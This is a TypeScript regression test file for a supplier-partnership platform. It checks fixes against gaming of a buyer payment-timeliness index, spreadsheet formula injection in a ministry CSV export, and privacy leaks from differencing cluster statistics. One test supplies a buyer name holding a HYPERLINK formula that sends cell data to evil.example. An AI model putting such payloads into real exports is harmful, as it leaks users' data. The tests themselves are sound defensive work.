// Attacks on the code of issues 12 and 13 that found a hole (each test failed before its fix):
//   - a buyer's own delivery records counted as "reviewed within 7 days" (it reviews nothing);
//   - confirmed payments counted one by one, so tiny payments on time diluted a late milestone;
//   - an amendment that lengthens the term or lowers the amount of a milestone whose term already runs, so a
//     milestone left unpaid past its term stopped being late;
//   - a payment term started only when the buyer accepted a delivery, so a buyer that never reviewed its
//     suppliers' deliveries was never measured on payments at all (and could date its own record later);
//   - the ministry ranking CSV carried a buyer's chosen name into Excel as a formula;
//   - a public cluster page's partnership total still held a suspended anchor that its rows no longer showed
//     (total − rows = that anchor's single partnership), and a certificate count left 1–2 members without it;
//   - the statistics' cluster filter: a province's figure without the cluster minus the same with it gave away
//     the partnerships of the one UMKM of that province outside the cluster.
import { beforeAll, describe, expect, it } from "vitest";
import { useTestDatabase } from "@/tests/helpers/db";
import { callRoute } from "@/tests/helpers/api";
import { actAs } from "@/tests/helpers/act-as";
import { createAgreement, createBuyer, createOrganization, createUmkm } from "@/tests/helpers/factories";
import { createApiToken } from "@/lib/auth/tokens";
import { DomainError } from "@/lib/errors";
import { getPartnershipIndex } from "@/lib/partnership-index/queries";
import { recordDelivery, reviewDelivery } from "@/lib/agreements/execution";
import { amendAgreement } from "@/lib/agreements/proposals";
import { getClusterSummary } from "@/lib/clusters/summary";
import { GET as ranking } from "@/app/api/v1/stats/partnership-index/route";
import { GET as partnershipStats } from "@/app/api/v1/stats/partnerships/route";

const t = useTestDatabase();
const d = (s: string) => new Date(`${s}T00:00:00Z`);
const Y = new Date().getUTCFullYear();
const today = new Date().toISOString().slice(0, 10);

type Owner = Awaited<ReturnType<typeof createBuyer>>["owner"];
const users = {} as Record<string, Owner>;
const ids = {} as Record<string, string>;

const indexOf = async (buyerId: string) => (await getPartnershipIndex(buyerId, { kind: "year", year: Y }))!;

async function invalidFields(p: Promise<unknown>): Promise<string[]> {
  const err = await p.then(
    () => null,
    (e: unknown) => e,
  );
  expect(err).toBeInstanceOf(DomainError);
  const e = err as DomainError;
  expect(e.code).toBe("invalid_input");
  return Object.keys(e.fields ?? {});
}

beforeAll(async () => {
  const b1 = await createBuyer(t.db, { name: "PT Pencatat Sendiri" });
  const b2 = await createBuyer(t.db, { name: "PT Cicilan Receh" });
  const b3 = await createBuyer(t.db, { name: "PT Ubah Termin" });
  Object.assign(users, { b1: b1.owner, b2: b2.owner, b3: b3.owner });
  Object.assign(ids, { b1: b1.organization.id, b2: b2.organization.id, b3: b3.organization.id });
  const u1 = await createUmkm(t.db, { name: "UD Pemasok Satu" });
  const u2 = await createUmkm(t.db, { name: "UD Pemasok Dua" });
  const u3 = await createUmkm(t.db, { name: "UD Pemasok Tiga" });
  Object.assign(users, { u1: u1.owner, u2: u2.owner, u3: u3.owner });
  Object.assign(ids, { u1: u1.organization.id, u2: u2.organization.id, u3: u3.organization.id });
});

describe("delivery review within 7 days", () => {
  it("counts only the supplier's deliveries the buyer reviewed, never the buyer's own records", async () => {
    const a = await createAgreement(t.db, ids.b1, ids.u1, { startDate: d(`${Y}-01-01`), endDate: d(`${Y}-12-31`) });
    ids.a1 = a.id;
    const buyer = await actAs(users.b1);
    const before = await indexOf(ids.b1);
    expect(before.counts.deliveriesCounted).toBe(0);

    // the buyer records deliveries itself (accepted at once): nothing was reviewed, nothing counts
    for (let i = 0; i < 3; i++) await recordDelivery(buyer, a.id, { quantity: 1, deliveredOn: d(today), milestoneId: a.milestones[0].id });
    const own = await indexOf(ids.b1);
    expect(own.counts.deliveriesCounted).toBe(0);
    expect(own.counts.deliveriesOnTime).toBe(0);
    expect(own.components.deliveryReviewOnTimeShare).toBeNull();

    // the supplier records one and the buyer reviews it the same day: one review, on time
    const view = await recordDelivery(await actAs(users.u1), a.id, { quantity: 2, deliveredOn: d(today) });
    const pending = view.deliveries.find((x) => x.status === "pending_review")!;
    await reviewDelivery(await actAs(users.b1), a.id, pending.id, { status: "accepted" });
    const reviewed = await indexOf(ids.b1);
    expect(reviewed.counts.deliveriesCounted).toBe(1);
    expect(reviewed.counts.deliveriesOnTime).toBe(1);
  });
});

describe("late payments are counted per milestone, not per payment", () => {
  beforeAll(async () => {
    const ms = (amount: bigint, due: string) => ({ title: "Termin", dueDate: d(due), amountIdr: amount, paymentTermDays: 30 });
    const a = await createAgreement(t.db, ids.b2, ids.u2, {
      startDate: d(`${Y}-02-01`),
      endDate: d(`${Y}-12-31`),
      valueIdr: 150_000_000n,
      milestones: [ms(100_000_000n, `${Y}-03-01`), ms(50_000_000n, `${Y}-06-01`)],
    });
    const [m1, m2] = a.milestones;
    for (const [m, on] of [
      [m1, `${Y}-03-01`],
      [m2, `${Y}-06-01`],
    ] as const)
      await t.db.delivery.create({
        data: {
          agreementId: a.id,
          milestoneId: m.id,
          quantity: 1,
          deliveredOn: d(on),
          onTime: true,
          status: "accepted",
          reviewedAt: d(on),
        },
      });
    const pay = (milestoneId: string, amountIdr: bigint, received: string) =>
      t.db.payment.create({
        data: { agreementId: a.id, milestoneId, amountIdr, paidOn: d(received), receivedOn: d(received), receiptConfirmedAt: new Date() },
      });
    // m1 (term 30 days from 1 March): two token payments on time, the bulk 75 days after the term started
    await pay(m1.id, 1_000_000n, `${Y}-03-05`);
    await pay(m1.id, 1_000_000n, `${Y}-03-06`);
    await pay(m1.id, 98_000_000n, `${Y}-05-15`);
    // m2 (term from 1 June): a fifth paid on time, the rest never: unpaid past its term
    await pay(m2.id, 10_000_000n, `${Y}-06-05`);
  });

  it("a milestone settles on the day its confirmed payments reach its amount; token payments on time change nothing", async () => {
    const ix = await indexOf(ids.b2);
    // m1 settled late (75 days); m2 is open past its term: 2 of 2 milestones late
    expect(ix.counts).toMatchObject({ paymentsCounted: 2, paymentsLate: 2, unpaidPastTerm: 1 });
    expect(ix.components.latePaymentShare).toBe(1);
    expect(ix.components.daysToPayMedian).toBe(75);
    expect(ix.components.daysToPayP90).toBe(75);
  });
});

describe("an amendment cannot make a running payment term longer or a delivered milestone cheaper", () => {
  beforeAll(async () => {
    const ms = (title: string, due: string, amount: bigint) => ({ title, dueDate: d(due), amountIdr: amount, paymentTermDays: 30 });
    const a = await createAgreement(t.db, ids.b3, ids.u3, {
      startDate: d(`${Y}-01-01`),
      endDate: d(`${Y}-12-31`),
      valueIdr: 100_000_000n,
      milestones: [ms("Tahap 1", `${Y}-02-01`, 60_000_000n), ms("Tahap 2", `${Y}-12-01`, 40_000_000n)],
    });
    ids.a3 = a.id;
    // the first milestone was delivered and accepted on 1 February and never paid: late since 3 March
    await t.db.delivery.create({
      data: {
        agreementId: a.id,
        milestoneId: a.milestones[0].id,
        quantity: 1,
        deliveredOn: d(`${Y}-02-01`),
        onTime: true,
        status: "accepted",
        reviewedAt: d(`${Y}-02-02`),
      },
    });
  });

  const milestones = (first: { term?: number; amount?: bigint }, second: { term?: number; amount?: bigint } = {}) => [
    { title: "Tahap 1", dueDate: d(`${Y}-02-01`), amountIdr: first.amount ?? 60_000_000n, paymentTermDays: first.term ?? 30 },
    { title: "Tahap 2", dueDate: d(`${Y}-12-01`), amountIdr: second.amount ?? 40_000_000n, paymentTermDays: second.term ?? 30 },
  ];

  it("refuses a longer term or a lower amount on the delivered milestone (400 on milestones, nothing written)", async () => {
    expect((await indexOf(ids.b3)).counts.unpaidPastTerm).toBe(1);
    const before = await t.db.agreement.findUniqueOrThrow({ where: { id: ids.a3 }, select: { version: true, pendingVersion: true } });
    for (const who of ["b3", "u3"]) {
      const actor = await actAs(users[who]);
      expect(await invalidFields(amendAgreement(actor, ids.a3, { version: 1, milestones: milestones({ term: 365 }) }))).toEqual([
        "milestones",
      ]);
      expect(
        await invalidFields(
          amendAgreement(actor, ids.a3, { version: 1, milestones: milestones({ amount: 1_000n }, { amount: 99_999_000n }) }),
        ),
      ).toEqual(["milestones"]);
    }
    const after = await t.db.agreement.findUniqueOrThrow({ where: { id: ids.a3 }, select: { version: true, pendingVersion: true } });
    expect(after).toEqual(before);
    expect((await indexOf(ids.b3)).counts.unpaidPastTerm).toBe(1);
  });

  it("still allows a shorter term or a higher amount there, and any change to a milestone not yet delivered", async () => {
    const view = await amendAgreement(await actAs(users.b3), ids.a3, {
      version: 1,
      valueIdr: 130_000_000n,
      milestones: milestones({ term: 14, amount: 70_000_000n }, { term: 90, amount: 60_000_000n }),
    });
    expect(view.pendingVersion).not.toBeNull();
  });
});

describe("a delivery the buyer leaves unreviewed still starts the payment term", () => {
  it("counts the milestone late once its term is over, and the buyer's own later-dated record does not move it", async () => {
    const b = await createBuyer(t.db, { name: "PT Tak Pernah Periksa" });
    const u = await createUmkm(t.db, { name: "UD Menunggu Diperiksa" });
    const ms = (due: string) => ({ title: "Termin", dueDate: d(due), amountIdr: 50_000_000n, paymentTermDays: 30 });
    const a = await createAgreement(t.db, b.organization.id, u.organization.id, {
      startDate: d(`${Y}-01-01`),
      endDate: d(`${Y}-12-31`),
      valueIdr: 100_000_000n,
      milestones: [ms(`${Y}-03-01`), ms(`${Y}-06-01`)],
    });
    const [m1, m2] = a.milestones;
    // the supplier delivered both milestones; the buyer never reviewed them
    for (const [m, on] of [
      [m1, `${Y}-03-01`],
      [m2, `${Y}-06-01`],
    ] as const)
      await t.db.delivery.create({
        data: {
          agreementId: a.id,
          milestoneId: m.id,
          quantity: 1,
          deliveredOn: d(on),
          onTime: true,
          status: "pending_review",
          createdAt: d(on),
        },
      });
    // ...but recorded one of its own for m2, dated four months later, accepted
    await t.db.delivery.create({
      data: { agreementId: a.id, milestoneId: m2.id, quantity: 1, deliveredOn: d(`${Y}-10-01`), onTime: false, status: "accepted" },
    });
    // m2 paid (and confirmed) on 20 October: 141 days after the supplier's delivery, 19 after the buyer's date
    await t.db.payment.create({
      data: {
        agreementId: a.id,
        milestoneId: m2.id,
        amountIdr: 50_000_000n,
        paidOn: d(`${Y}-10-20`),
        receivedOn: d(`${Y}-10-20`),
        receiptConfirmedAt: new Date(),
      },
    });
    const ix = await indexOf(b.organization.id);
    expect(ix.counts).toMatchObject({ paymentsCounted: 2, paymentsLate: 2, unpaidPastTerm: 1 });
    expect(ix.components.daysToPayMedian).toBe(141);
    // the two deliveries waiting for review count as not reviewed on time
    expect(ix.counts).toMatchObject({ deliveriesCounted: 2, deliveriesOnTime: 0 });
  });
});

describe("ministry ranking CSV", () => {
  it("defuses a buyer name that a spreadsheet would run as a formula", async () => {
    const evil = '=HYPERLINK("http://evil.example/?x="&A1;"klik")';
    await createBuyer(t.db, { name: evil });
    await createBuyer(t.db, { name: "@SUM(1+1)" });
    const { owner } = await createOrganization(t.db, "ministry", { name: "Kementerian UMKM" });
    const token = (await createApiToken(owner.id, { name: "analyst" })).token;
    const res = await callRoute(ranking, "GET", "/api/v1/stats/partnership-index", {
      token,
      query: { year: String(Y) },
      headers: { accept: "text/csv" },
    });
    expect(res.status).toBe(200);
    const text = await res.text();
    const cells = text.split("\r\n").map((line) => line.split(";")[1] ?? "");
    for (const c of cells) expect(c.replace(/^"/, ""), c).not.toMatch(/^[=+\-@]/);
    expect(text).toContain("'=HYPERLINK");
    expect(text).toContain("'@SUM(1+1)");
  });
});

describe("public cluster figures: no differencing", () => {
  beforeAll(async () => {
    const { organization: manager } = await createOrganization(t.db, "cluster_manager", { name: "Asosiasi IKM Uji" });
    const cluster = await t.db.cluster.create({
      data: { name: "Klaster Uji Selisih", kbliSections: ["C"], provinceCodes: ["32"], regencyCodes: [], managerId: manager.id },
    });
    ids.cluster = cluster.id;
    const members = [];
    for (let i = 1; i <= 7; i++) members.push((await createUmkm(t.db, { name: `UD Anggota Klaster ${i}` })).organization.id);
    await t.db.clusterMember.createMany({
      data: members.map((organizationId) => ({ clusterId: cluster.id, organizationId, status: "active" as const, joinedAt: new Date() })),
    });
    // anchors: K1 with members 1–3, K2 with members 4–6, K3 with member 7 only
    const anchors = [];
    for (const name of ["PT Jangkar Satu", "PT Jangkar Dua", "PT Jangkar Tiga"])
      anchors.push((await createBuyer(t.db, { name })).organization.id);
    await t.db.clusterAnchor.createMany({
      data: anchors.map((buyerId) => ({ clusterId: cluster.id, buyerId, status: "active" as const, decidedAt: new Date() })),
    });
    const plan: [number, number, bigint][] = [
      [0, 0, 10_000_000n],
      [0, 1, 11_000_000n],
      [0, 2, 12_000_000n],
      [1, 3, 20_000_000n],
      [1, 4, 21_000_000n],
      [1, 5, 22_000_000n],
      [2, 6, 77_700_000n],
    ];
    for (const [k, m, valueIdr] of plan) await createAgreement(t.db, anchors[k], members[m], { valueIdr });
    // then the third anchor is suspended: its row leaves the page
    await t.db.organization.update({ where: { id: anchors[2] }, data: { suspendedAt: new Date() } });
    // six of the seven hold a valid halal certificate: "6 of 7" would single out the seventh
    const verifiedAt = new Date(Date.now() - 86_400_000);
    await t.db.certification.createMany({
      data: members.slice(0, 6).map((organizationId, i) => ({
        organizationId,
        type: "halal" as const,
        number: `ID00110000${i}`,
        verificationStatus: "verified" as const,
        verifiedAt,
        validUntil: d(`${Y + 2}-01-01`),
      })),
    });
  });

  it("the partnership total is the sum of the anchors shown (a suspended anchor leaves both)", async () => {
    const s = await getClusterSummary(ids.cluster, null);
    expect(s.anchors.map((a) => a.name).sort()).toEqual(["PT Jangkar Dua", "PT Jangkar Satu"]);
    const shown = s.partnerships.byAnchor.filter((r) => !r.suppressed);
    expect(shown).toHaveLength(2);
    expect(s.partnerships.valueIdr).toBe(shown.reduce((sum, r) => sum + r.valueIdr!, 0n));
    expect(s.partnerships.agreements).toBe(6);
    expect(s.partnerships.suppliers).toBe(6);
  });

  it("withholds a certificate count that leaves 1 or 2 members without it", async () => {
    const s = await getClusterSummary(ids.cluster, null);
    expect(s.members.umkm).toBe(7);
    expect(s.certificates.halal).toEqual({ umkm: null, share: null, suppressed: true });
    // ministry staff see it exactly
    const { owner } = await createOrganization(t.db, "ministry", { name: "Kementerian Uji Klaster" });
    const staff = await getClusterSummary(ids.cluster, await actAs(owner));
    expect(staff.certificates.halal.umkm).toBe(6);
  });
});

describe("statistics: the cluster filter cannot be differenced against the unfiltered view", () => {
  it("withholds a cluster row whose complement (the UMKM outside the cluster) is fewer than 3", async () => {
    const { organization: manager } = await createOrganization(t.db, "cluster_manager", { name: "Asosiasi Uji Statistik" });
    const cluster = await t.db.cluster.create({
      data: { name: "Klaster Makassar", kbliSections: ["C"], provinceCodes: ["73"], regencyCodes: [], managerId: manager.id },
    });
    const buyer = (await createBuyer(t.db, { name: "PT Pembeli Makassar" })).organization.id;
    // four UMKM of Sulawesi Selatan partner with the buyer; three are in the cluster, one is not
    const values = [31_000_000n, 32_000_000n, 33_000_000n, 44_400_000n];
    const orgs: string[] = [];
    for (const [i, valueIdr] of values.entries()) {
      const u = await createUmkm(t.db, { name: `UD Makassar ${i + 1}`, regencyCode: "73.71" });
      orgs.push(u.organization.id);
      await createAgreement(t.db, buyer, u.organization.id, { valueIdr });
    }
    await t.db.clusterMember.createMany({
      data: orgs
        .slice(0, 3)
        .map((organizationId) => ({ clusterId: cluster.id, organizationId, status: "active" as const, joinedAt: new Date() })),
    });
    type Body = { data: { key: string; suppressed: boolean; valueIdr: number | null; agreements: number | null }[] };
    const get = async (query: Record<string, string>) => {
      const res = await callRoute(partnershipStats, "GET", "/api/v1/stats/partnerships", { query: { groupBy: "province", ...query } });
      expect(res.status).toBe(200);
      return (await res.json()) as Body;
    };
    const whole = (await get({})).data.find((r) => r.key === "73")!;
    const inCluster = (await get({ clusterId: cluster.id })).data.find((r) => r.key === "73");
    expect(whole.suppressed).toBe(false);
    expect(whole.agreements).toBe(4);
    // the province row of the cluster view would be 3 UMKM (publishable), but 4 − 3 = the one outside it
    expect(inCluster?.suppressed).toBe(true);
    expect(inCluster?.valueIdr ?? null).toBeNull();
  });
});
